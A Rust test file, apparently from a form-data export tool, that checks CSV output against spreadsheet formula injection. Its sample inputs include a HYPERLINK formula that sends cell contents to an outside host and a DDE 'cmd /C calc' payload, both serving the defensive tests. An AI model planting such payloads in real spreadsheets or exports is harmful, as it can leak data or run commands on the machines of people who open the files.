//! The CSV files hold no cell that a spreadsheet would run or rewrite; Parquet holds every text as it was typed.

use crate::common;
use std::fs;
use std::path::Path;

use kohyo::docket;
use kohyo::roll;
use kohyo::table;

/// What somebody may type into a form.
const TYPED: [(&str, &str); 9] = [
    ("番号", "1-1"),
    ("事業名称", "=HYPERLINK(\"http://example.com/?\"&A1,\"見る\")"),
    ("担当部課", "@SUM(1)"),
    ("実施責任者", "+1"),
    ("事業概要", "-1"),
    ("現状", "\t=1+1"),
    ("期待される効果", "＝cmd|' /C calc'!A0"),
    ("KGI", "2021-09"),
    ("備考", "一行目\n=1+1, \"二\"\r三行目"),
];

/// The cells of a CSV text, line by line.
fn cells(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut chars = text.trim_start_matches('\u{FEFF}').chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => cell.extend(chars.next()),
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\n' if !quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            c => cell.push(c),
        }
    }
    assert!(
        !quoted && row.is_empty() && cell.is_empty(),
        "the last line is not whole"
    );
    rows
}

/// Writes the data files of a batch of one form with these texts.
fn written(folder: &Path) -> table::Tables {
    let plan = common::plan();
    let mut form = common::filled();
    for (field, text) in TYPED {
        form.fill(field, 0, text);
    }
    let batch = common::batch(&plan, &[("=1+1.xlsx", form.write().expect("a workbook"))]);
    let mut tables = roll::fill(&batch);
    tables.findings = kohyo::check::rows(&batch, &kohyo::check::check(&batch, None));
    docket::submissions(&batch, &mut tables).expect("counted");
    table::write(&tables, roll::all_values(&batch), folder).expect("written");
    tables
}

#[test]
fn no_cell_of_any_csv_is_run_or_rewritten() {
    let folder = tempfile::tempdir().expect("a folder");
    written(folder.path());
    let (mut texts, mut files) = (0, 0);
    for entry in fs::read_dir(folder.path()).expect("a folder") {
        let path = entry.expect("an entry").path();
        if path.extension().is_none_or(|extension| extension != "csv") {
            continue;
        }
        files += 1;
        let rows = cells(&fs::read_to_string(&path).expect("a table"));
        assert!(rows.iter().all(|row| row.len() == rows[0].len()), "{}", path.display());
        for (row, heading) in rows.iter().skip(1).flat_map(|row| row.iter().zip(&rows[0])) {
            // Numbers are numbers: -1 in such a column is what it says.
            if row.parse::<f64>().is_ok() {
                continue;
            }
            texts += usize::from(row.starts_with('\''));
            let runs = row.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r']);
            assert!(
                !runs && row != "1-1" && row != "2021-09",
                "{} {heading}: {row:?}",
                path.display()
            );
        }
    }
    assert!(files >= 14 && texts > 50, "{files} files, {texts} texts");
}

#[test]
fn parquet_and_csv_hold_the_same_texts_but_for_the_apostrophe() {
    let folder = tempfile::tempdir().expect("a folder");
    let tables = written(folder.path());
    let read = table::read(folder.path()).expect("tables").expect("a batch");
    assert_eq!(read.initiatives, tables.initiatives);
    assert_eq!(
        (&*read.initiatives[0].place.number, &*read.initiatives[0].place.title),
        ("1-1", TYPED[1].1)
    );
    let values = table::read_values(folder.path(), None).expect("values");
    let rows = cells(&fs::read_to_string(folder.path().join("values.csv")).expect("a table"));
    let place = rows[0].iter().position(|heading| heading == "raw").expect("a column");
    for (row, value) in rows[1..].iter().zip(&values) {
        assert_eq!(row[place].strip_prefix('\'').unwrap_or(&row[place]), value.raw);
    }
    assert_eq!(values.len(), rows.len() - 1);
    assert!(
        ["番号", "KGI", "担当部課"]
            .iter()
            .all(|field| values.iter().any(|value| value.field == *field))
    );
}
